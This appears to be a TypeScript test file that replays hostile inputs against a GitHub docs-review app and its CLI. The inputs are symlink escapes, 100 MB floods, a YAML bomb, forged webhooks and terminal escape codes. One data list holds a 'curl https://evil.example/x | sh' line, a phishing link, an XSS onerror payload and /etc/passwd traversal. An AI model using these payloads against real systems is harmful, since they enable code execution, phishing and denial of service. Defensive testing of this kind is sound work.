/**
 * The attacks of the hostile replay (see hostile.ts), each as an attacker or
 * an unlucky day would send it. Every attack that opens pull requests does so
 * from installation 1; the harness opens ordinary ones from installation 2
 * meanwhile and measures the targets. What an attack checks of its own
 * (answers, statuses, what was quoted) goes to `ctx.problems`.
 */
import { execFileSync, spawn } from "node:child_process";
import { mkdirSync, readdirSync, readFileSync, lstatSync, writeFileSync } from "node:fs";
import { dirname, join, relative } from "node:path";
import type { Attack, AttackContext, Sent } from "./hostile.js";
import type { CheckRun } from "../standin/model.js";

const sleep = (ms: number) => new Promise<void>((r) => setTimeout(r, ms));
import { rawPost } from "./raw-post.js";
import { sign } from "./webhooks.js";
import { gitRepo } from "./git-repo.js";
import { projectRoot } from "./paths.js";
import { angleSoup, deepBuild, denseMarkdown, manyDocRules } from "../../../tools/bench/dense.js";

const MB = 1024 * 1024;

/** Waits for the check runs of `sent` and notes the ones that never completed. */
async function settle(ctx: AttackContext, sent: Sent[], timeoutMs = 240_000) {
  const runs = await Promise.all(
    sent.map((s) => ctx.completed(s.repo, s.head, s.sentAt, timeoutMs)),
  );
  runs.forEach((r, i) => {
    if (!r)
      ctx.problems.push(`no completed check run for ${sent[i].repo.name} in ${timeoutMs / 1000} s`);
  });
  return runs;
}

function conclusions(runs: (CheckRun | null)[]) {
  return runs.map((r) => (r ? `${r.conclusion}: ${r.output.title ?? ""}` : "none"));
}

// ------------------------------------------------------------------ fix and symbolic links

const LONG_PROSE =
  "The sandbox runs untrusted code in user space and intercepts every system call it makes before the host kernel sees it.";

/** Every file under `dir` but `skip`, with its bytes. */
function snapshot(dir: string, skip: string): Map<string, Buffer> {
  const out = new Map<string, Buffer>();
  const walk = (d: string) => {
    for (const e of readdirSync(d)) {
      const p = join(d, e);
      if (p === skip) continue;
      const st = lstatSync(p);
      if (st.isDirectory()) walk(p);
      else if (st.isFile()) out.set(relative(dir, p), readFileSync(p));
    }
  };
  walk(dir);
  return out;
}

/** Bytes that differ between two snapshots (changed, added or removed). */
function bytesChanged(before: Map<string, Buffer>, after: Map<string, Buffer>): number {
  let n = 0;
  for (const [p, a] of after) {
    const b = before.get(p);
    if (!b) {
      n += a.length;
      continue;
    }
    const common = Math.min(a.length, b.length);
    for (let i = 0; i < common; i++) if (a[i] !== b[i]) n++;
    n += Math.abs(a.length - b.length);
  }
  for (const [p, b] of before) if (!after.has(p)) n += b.length;
  return n;
}

/** Runs the built command without blocking the stand-in (it shares this thread). */
function cli(
  args: string[],
  cwd: string,
): Promise<{ status: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [join(projectRoot(), "lib", "cli", "bin.js"), ...args], {
      cwd,
      stdio: ["ignore", "pipe", "pipe"],
    });
    let stdout = "";
    let stderr = "";
    child.stdout.setEncoding("utf8").on("data", (c: string) => (stdout += c));
    child.stderr.setEncoding("utf8").on("data", (c: string) => (stderr += c));
    child.on("close", (status) => resolve({ status, stdout, stderr }));
  });
}

const symlinkFix: Attack = {
  name: "fix through committed symlinks (CLI)",
  async run(ctx) {
    const top = join(ctx.dir, "links");
    const outside: Record<string, string> = {
      "victim/.bashrc": `# ~/.bashrc\n# ${LONG_PROSE}\nexport SECRET_TOKEN=do-not-print-me\n`,
      "victim/.ssh/authorized_keys": `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl admin@host ${LONG_PROSE}\n`,
      "victim/docs/guide.md": `# Outside\n\n${LONG_PROSE} ${LONG_PROSE}\n`,
    };
    for (const [p, text] of Object.entries(outside)) {
      mkdirSync(dirname(join(top, p)), { recursive: true });
      writeFileSync(join(top, p), text);
    }
    const repoDir = join(top, "repo");
    mkdirSync(repoDir);
    const g = gitRepo(repoDir);
    g.git("init", "-q", "-b", "main");
    const base = g.commitFiles({ "g3doc/index.md": "# Index\n\nText.\n" });
    g.git("checkout", "-q", "-b", "pr");
    for (const [p, target] of Object.entries({
      "g3doc/shell.md": "../../victim/.bashrc",
      "g3doc/keys.md": "../../victim/.ssh/authorized_keys",
      "g3doc/linked": "../../victim/docs",
    }))
      execFileSync("ln", ["-s", target, join(repoDir, p)]);
    const head = g.commitFiles({
      ".github/g3doc-review.yml": `terms:\n  - use: userspace\n    avoid: ["user space"]\n`,
      "g3doc/real.md": `# Real\n\n${LONG_PROSE}\n`,
    });
    const before = snapshot(top, repoDir);
    const printed: string[] = [];
    for (const args of [
      ["fix", "--base", "main", "--dry-run"],
      ["fix", "--base", "main"],
      ["fix", "--all", "--dry-run"],
      ["fix", "--all", "--reformat"],
    ]) {
      const r = await cli(args, repoDir);
      printed.push(r.stdout, r.stderr);
      if (r.status !== 0 && r.status !== 1)
        ctx.problems.push(`${args.join(" ")} exited ${r.status}: ${r.stderr.slice(0, 200)}`);
    }
    ctx.outsideWrites = bytesChanged(before, snapshot(top, repoDir));
    const text = printed.join("\n");
    for (const secret of ["SECRET_TOKEN", "AAAAC3NzaC1lZDI1NTE5", "# Outside"])
      if (text.includes(secret))
        ctx.problems.push(`fix printed ${secret} from outside the repository`);
    if (!/g3doc\/shell\.md: skipped, it is a symbolic link/.test(text))
      ctx.problems.push("fix did not name the linked doc it skipped");
    // The same pull request to the app: check reads through git, where a link is its target's name.
    const repo = ctx.standin.addRepo({
      owner: "google",
      name: "symlink-pr",
      gitDir: repoDir,
      defaultSha: base,
      defaultBranch: "main",
    });
    const pull = ctx.standin.openPull(repo, { number: 1, base, head });
    const runs = await settle(ctx, [await ctx.send(repo, pull, "opened")]);
    ctx.details.app_conclusion = conclusions(runs);
  },
};

// ------------------------------------------------------------------ bodies

const bodyFlood: Attack = {
  name: "ten unsigned 100 MB bodies",
  rssTarget: true,
  async run(ctx) {
    const headers = {
      "content-type": "application/json",
      "x-github-event": "pull_request",
      "x-github-delivery": "flood",
    };
    // Half declare their 100 MB, half stream it without a length.
    const posts = Array.from({ length: 10 }, (_, i) =>
      rawPost(ctx.app.webhookUrl, {
        headers: { ...headers, "x-github-delivery": `flood-${i}` },
        size: 100 * MB,
        chunked: i % 2 === 1,
        chunkBytes: 256 * 1024,
        timeoutMs: 60_000,
      }),
    );
    const results = await Promise.all(posts);
    ctx.details.flood_answers = results.map((r) => r.status ?? r.error);
    ctx.details.flood_mb_sent_max = Math.round(
      Math.max(...results.map((r) => r.bytesBeforeAnswer)) / MB,
    );
    // Refused (400 unsigned, 413 too large, 503 over the shared budget), or cut off, before it is buffered.
    for (const r of results)
      if (
        ![400, 413, 503].includes(r.status ?? 0) &&
        r.error !== "EPIPE" &&
        r.error !== "ECONNRESET"
      )
        ctx.problems.push(`an unsigned 100 MB body was answered ${r.status ?? r.error}`);
    const sentMax = Math.max(...results.map((r) => r.bytesBeforeAnswer));
    if (sentMax > 26 * MB)
      ctx.problems.push(`a body was read past 25 MB (${Math.round(sentMax / MB)} MB)`);
  },
};

// ------------------------------------------------------------------ main-thread stalls and budgets

const longLine: Attack = {
  name: "a 150 KB line in added .md files",
  async run(ctx) {
    const line = "word ".repeat(30_000).trimEnd();
    const head = ctx.commit({
      "g3doc/long.md": `# Long\n\n${line}\n`,
      "notes/long.md": `${line}\n`,
    });
    ctx.details.conclusion = conclusions(await settle(ctx, [await ctx.open("", head)]));
  },
};

const manyFindings: Attack = {
  name: "48,000 findings",
  async run(ctx) {
    const parts = ["# Big\n\n"];
    for (let i = 0; i < 48_000; i++) parts.push(`Line ${i} with user space.\n\n`);
    const head = ctx.commit({ "g3doc/big.md": parts.join("") });
    const runs = await settle(ctx, [await ctx.open("", head)]);
    ctx.details.conclusion = conclusions(runs);
  },
};

const angleDoc: Attack = {
  name: "a 1 MB doc of <a <a <a",
  async run(ctx) {
    const head = ctx.commit({ "g3doc/angle.md": `# Angle\n\n${angleSoup(MB)}\n` });
    ctx.details.conclusion = conclusions(await settle(ctx, [await ctx.open("", head)]));
  },
};

const buildFiles: Attack = {
  name: "BUILD: 8,000 doc() rules, 2,000-deep nesting",
  async run(ctx) {
    const head = ctx.commit({
      "g3doc/BUILD": manyDocRules(8000),
      "g3doc/deep/BUILD": deepBuild(2000),
      "g3doc/deep/doc.md": "# Deep\n\nText.\n",
    });
    ctx.details.conclusion = conclusions(await settle(ctx, [await ctx.open("", head)]));
  },
};

const allSlots: Attack = {
  name: "one installation's pull requests in every slot",
  async run(ctx) {
    const sent: Sent[] = [];
    for (let i = 0; i < 4; i++) {
      const head = ctx.commit({ [`g3doc/big${i}.md`]: denseMarkdown(2 * MB) });
      sent.push(await ctx.open(String(i), head));
    }
    ctx.details.conclusions = conclusions(await settle(ctx, sent, 400_000));
  },
};

// ------------------------------------------------------------------ GitHub's limits

const rateLimit: Attack = {
  name: "rate limit used up for an hour",
  async run(ctx) {
    const reset = Math.floor(Date.now() / 1000) + 3601;
    ctx.standin.intercept = (rec) =>
      rec.installation === ctx.installation && rec.path.endsWith("/graphql")
        ? {
            status: 403,
            headers: {
              "x-ratelimit-limit": "5000",
              "x-ratelimit-remaining": "0",
              "x-ratelimit-used": "5000",
              "x-ratelimit-reset": String(reset),
            },
            body: {
              message: `API rate limit exceeded for installation ID ${ctx.installation}.`,
              documentation_url:
                "https://docs.github.com/rest/overview/resources-in-the-rest-api#rate-limiting",
            },
          }
        : undefined;
    try {
      const head = ctx.commit({ "g3doc/guide.md": "# Guide\n\nText in user space.\n" });
      const t0 = performance.now();
      const runs = await settle(ctx, [await ctx.open("", head)], 60_000);
      ctx.details.conclusion = conclusions(runs);
      ctx.details.check_done_ms = Math.round(performance.now() - t0);
      if (runs[0] && runs[0].conclusion !== "neutral")
        ctx.problems.push(`the rate-limited review ended ${runs[0].conclusion}, not neutral`);
      if (runs[0] && !/^Rate limited: runs again after/.test(runs[0].output.title ?? ""))
        ctx.problems.push(`the rate-limited review's title says ${runs[0].output.title}`);
    } finally {
      ctx.standin.intercept = undefined;
    }
  },
};

// ------------------------------------------------------------------ what the app posts

const INJECTIONS = [
  "See [the guide](guide%0A%0APing%20@octo-org/security-team%20about%20GH-123.md).",
  "![diagram](img%60%60%60suggestion%0Acurl%20https://evil.example/x%20%7C%20sh%0A%60%60%60.png)",
  "Read [setup](#%60%5BClick%20here%5D(https://evil.example/login)%20%3Cimg%20src=x%20onerror=alert(1)%3E%20%23123%60).",
  "Also [up](../../etc/passwd) and [encoded](%2e%2e/%2e%2e/etc/shadow).",
];

const injection: Attack = {
  name: "injection in links, images and anchors",
  async run(ctx) {
    const doc = `# Attack\n\n${INJECTIONS.join("\n\n")}\n`;
    const head = ctx.commit({ "g3doc/attack.md": doc });
    // Once as review comments, once in the summary alone (no comments allowed by the config).
    const quiet = ctx.commit({ ".github/g3doc-review.yml": "review:\n  maxComments: 0\n" });
    const quietHead = ctx.commit({ "g3doc/attack.md": doc }, { from: quiet });
    const sent = [
      await ctx.open("comments", head),
      await ctx.open("summary", quietHead, { base: quiet }),
    ];
    const runs = await settle(ctx, sent);
    ctx.details.conclusions = conclusions(runs);
    const summary = runs[1]?.output.summary ?? "";
    if (!summary.includes("security-team"))
      ctx.problems.push("the summary does not quote the attack (nothing to judge)");
  },
};

const otherBots: Attack = {
  name: "other bots' threads with our marker",
  async run(ctx) {
    const head = ctx.commit({ "g3doc/guide.md": "# Guide\n\nText.\n\nMore text.\n" });
    const repo = ctx.repo("");
    const pull = ctx.standin.openPull(repo, { number: 1, base: ctx.base, head });
    const marker = "<!-- g3doc-review:fp=0123456789abcdef -->";
    const threads = [
      ctx.standin.seedThread(repo, pull, {
        user: { login: "secret-scanner[bot]", id: 990001, type: "Bot" },
        path: "g3doc/guide.md",
        line: 5,
        body: `Possible secret on this line:\n\n> More text. ${marker}\n`,
      }),
      ctx.standin.seedThread(repo, pull, {
        user: { login: "someone", id: 990002, type: "User" },
        path: "g3doc/guide.md",
        line: 3,
        body: `Quoting the bot: ${marker}`,
      }),
    ];
    const runs = await settle(ctx, [await ctx.send(repo, pull, "opened")]);
    ctx.details.conclusion = conclusions(runs);
    for (const t of threads) {
      if (t.isResolved) ctx.problems.push(`resolved a thread it did not start (${t.id})`);
      if (t.commentIds.length > 1)
        ctx.problems.push(`replied to a thread it did not start (${t.id})`);
    }
  },
};

// ------------------------------------------------------------------ config on the default branch

const hostileConfig: Attack = {
  name: "config: backtracking glob, 100,000 terms, _extends, YAML bomb",
  async run(ctx) {
    const other = ctx.commit({ "any.yml": "db_password: hunter2-secret\napi_key: k\n" });
    ctx.repo("other-repo", other);
    const terms = ["terms:"];
    for (let i = 0; i < 100_000; i++) terms.push(`  - use: w${i}\n    avoid: ["x${i}"]`);
    const bomb = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
    for (let i = 0; i < 9; i++) {
      const prev = String.fromCharCode(97 + i);
      bomb.push(
        `${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [${Array(9).fill(`*${prev}`).join(",")}]`,
      );
    }
    const configs: Record<string, string> = {
      glob: 'paths:\n  - "g3doc/**/+(a|aa)+(a|aa)+(a|aa)b.md"\n',
      terms: `${terms.join("\n")}\n`,
      // The repositories are named `<attack>-<suffix>`: _extends names the sibling in the same owner.
      extends: `_extends: ${ctx.slug}-other-repo:any.yml\n`,
      bomb: `${bomb.join("\n")}\n`,
    };
    const sent: Sent[] = [];
    for (const [name, text] of Object.entries(configs)) {
      const cfg = ctx.commit({ ".github/g3doc-review.yml": text });
      const head = ctx.commit({ [`g3doc/${"a".repeat(60)}.md`]: "# A\n\nText.\n" }, { from: cfg });
      sent.push(await ctx.open(name, head, { base: cfg }));
    }
    const runs = await settle(ctx, sent);
    ctx.details.conclusions = conclusions(runs);
    // Each config is refused for what it is (so each attack reached the app).
    const expected = [
      /extended globs/,
      /limit is 64 KB/,
      /not a g3doc-review config/,
      /not valid YAML/,
    ];
    runs.forEach((r, i) => {
      if (!expected[i].test(r?.output.title ?? ""))
        ctx.problems.push(
          `config ${Object.keys(configs)[i]}: ${r?.output.title ?? "no check run"}`,
        );
    });
    for (const r of runs) {
      const text = JSON.stringify(r?.output ?? {});
      if (/hunter2|db_password|api_key/.test(text))
        ctx.problems.push("a check run quotes the extended file's keys or values");
    }
  },
};

// ------------------------------------------------------------------ deliveries that held, and point 10

const deliveries: Attack = {
  name: "forged, replayed, malformed and slow deliveries",
  async run(ctx) {
    const head = ctx.commit({ "g3doc/guide.md": "# Guide\n\nText in user space.\n" });
    const repo = ctx.repo("");
    const pull = ctx.standin.openPull(repo, { number: 1, base: ctx.base, head });
    const { pullRequestPayload } = await import("./webhooks.js");
    const body = await pullRequestPayload(ctx.standin, repo, pull, "opened", ctx.installation);
    const before = ctx.standin.requests.length;
    const cases: [string, string | null, string][] = [
      ["forged", sign(`not-${ctx.secret}`, body), body],
      ["missing", null, body],
      ["another body", sign(ctx.secret, body), `${body} `],
    ];
    const statuses: Record<string, number> = {};
    for (const [name, signature, b] of cases) {
      const r = await ctx.deliver("pull_request", b, { signature });
      ctx.acks.push(r.ms);
      statuses[name] = r.status;
      if (r.status !== 400) ctx.problems.push(`a ${name} signature was answered ${r.status}`);
    }
    const sha1 = await rawPost(ctx.app.webhookUrl, {
      headers: {
        "content-type": "application/json",
        "x-github-event": "pull_request",
        "x-github-delivery": "sha1-only",
        "x-hub-signature": "sha1=" + "a".repeat(40),
      },
      body,
    });
    ctx.acks.push(sha1.ms);
    statuses["SHA-1 only"] = sha1.status ?? -1;
    if (sha1.status !== 400)
      ctx.problems.push(`a SHA-1-only signature was answered ${sha1.status}`);
    await sleep(1000);
    const caused = ctx.standin.requests
      .slice(before)
      .filter((r) => r.repo === `google/${repo.name}`);
    if (caused.length)
      ctx.problems.push(`bad signatures caused ${caused.length} GitHub request(s)`);
    // Signed but malformed: 400 naming the problem, no internal error text.
    const bad = JSON.stringify({ action: "opened" });
    const m = await ctx.deliver("pull_request", bad);
    ctx.acks.push(m.ms);
    statuses.malformed = m.status;
    if (m.status !== 400 || /TypeError|Cannot read|\bat [\w.]+ \(/.test(m.body))
      ctx.problems.push(
        `a signed malformed payload was answered ${m.status}: ${m.body.slice(0, 120)}`,
      );
    // The same delivery twice: reviewed once.
    const sentAt = ctx.standin.now();
    for (let i = 0; i < 2; i++) {
      const r = await ctx.deliver("pull_request", body, { deliveryId: "replayed-delivery" });
      ctx.acks.push(r.ms);
    }
    await settle(ctx, [{ repo, pull, head, sentAt, status: 200, body: "" }]);
    await sleep(1500);
    const runs = ctx.standin.checkRunsFor(repo, head, "g3doc-review");
    if (runs.length !== 1) ctx.problems.push(`a replayed delivery made ${runs.length} check runs`);
    // A client that sends headers and stalls: answered by the body timeout, the others unaffected.
    const slow = await rawPost(ctx.app.webhookUrl, {
      // A signature (wrong, but it cannot be checked before the body is in): the body is waited for.
      headers: {
        "content-type": "application/json",
        "x-github-event": "pull_request",
        "x-github-delivery": "stalled",
        "x-hub-signature-256": `sha256=${"0".repeat(64)}`,
      },
      size: 100_000,
      stallAfter: 1000,
      timeoutMs: 30_000,
    });
    statuses.stalled = slow.status ?? -1;
    if (slow.status !== 408)
      ctx.problems.push(`a stalled body was answered ${slow.status ?? slow.error}`);
    ctx.details.statuses = statuses;
  },
};

const longSuggestion: Attack = {
  name: "a suggestion over 65,536 characters, then a push",
  async run(ctx) {
    const long = "x".repeat(70_000);
    const head1 = ctx.commit({ "g3doc/guide.md": `# Guide\n\nIntro.\n\n${long}   \n` });
    const first = await ctx.open("", head1);
    await settle(ctx, [first]);
    const head2 = ctx.commit(
      { "g3doc/guide.md": `# Guide\n\nIntro, longer.\n\n${long}   \n` },
      { from: head1 },
    );
    ctx.standin.pushPull(first.repo, 1, head2);
    const second = await ctx.send(first.repo, first.pull, "synchronize", head1);
    await settle(ctx, [second]);
    const top = ctx.standin.commentsOf(first.repo, 1).filter((c) => c.inReplyTo === undefined);
    const fps = top.map((c) => /<!-- g3doc-review:fp=([0-9a-f]+) -->/.exec(c.body)?.[1]);
    const dups = fps.length - new Set(fps).size;
    ctx.details.comments = top.length;
    if (dups > 0) ctx.problems.push(`${dups} comment(s) posted again after the push`);
    if (top.some((c) => c.body.length > 65_536))
      ctx.problems.push("a comment over 65,536 characters");
  },
};

const forcePush: Attack = {
  name: "a force-push during the review",
  async run(ctx) {
    const lines = Array.from({ length: 40 }, (_, i) => `Line ${i} runs in user space.\n`).join(
      "\n",
    );
    const head1 = ctx.commit({ "g3doc/guide.md": `# Guide\n\n${lines}` });
    const first = await ctx.open("", head1);
    // Pushed over while the first head is reviewed: an unrelated commit, so the old lines leave the diff.
    const head2 = ctx.commit({ "g3doc/other.md": "# Other\n\nFine.\n" });
    await sleep(200);
    ctx.standin.pushPull(first.repo, 1, head2);
    const second = await ctx.send(first.repo, first.pull, "synchronize", head1);
    await settle(ctx, [first, second]);
    const refused = ctx.standin.requests.filter(
      (r) =>
        r.repo === `google/${first.repo.name}` &&
        r.operation === "pulls/create-review" &&
        r.status === 422,
    ).length;
    ctx.details.refused_review_posts = refused;
    if (refused > 1) ctx.problems.push(`${refused} review posts refused after the push`);
  },
};

const terminalEscapes: Attack = {
  name: "terminal escape codes in the text output (CLI)",
  async run(ctx) {
    const dir = join(ctx.dir, "escapes");
    mkdirSync(dir);
    const g = gitRepo(dir);
    g.git("init", "-q", "-b", "main");
    g.commitFiles({ "g3doc/index.md": "# Index\n\nText.\n" });
    g.commitFiles({
      "g3doc/index.md":
        // A destination in <...> may hold control characters (CommonMark), so this is a link, broken.
        "# Index\n\nText \u001b[2J\u001b]0;pwned\u0007 [x](<missing\u001b[31m.md>) here.\n",
    });
    const r = await cli(["check", "--base", "HEAD~1", "--format", "text"], dir);
    // eslint-disable-next-line no-control-regex
    if (/[\u001b\u0007]/.test(r.stdout + r.stderr))
      ctx.problems.push("an escape code reached the output");
    if (!r.stdout.includes("g3doc/index.md"))
      ctx.problems.push("no finding printed (nothing to judge)");
  },
};

export const ATTACKS: Attack[] = [
  symlinkFix,
  bodyFlood,
  longLine,
  manyFindings,
  angleDoc,
  buildFiles,
  allSlots,
  rateLimit,
  injection,
  otherBots,
  hostileConfig,
  deliveries,
  longSuggestion,
  forcePush,
  terminalEscapes,
];
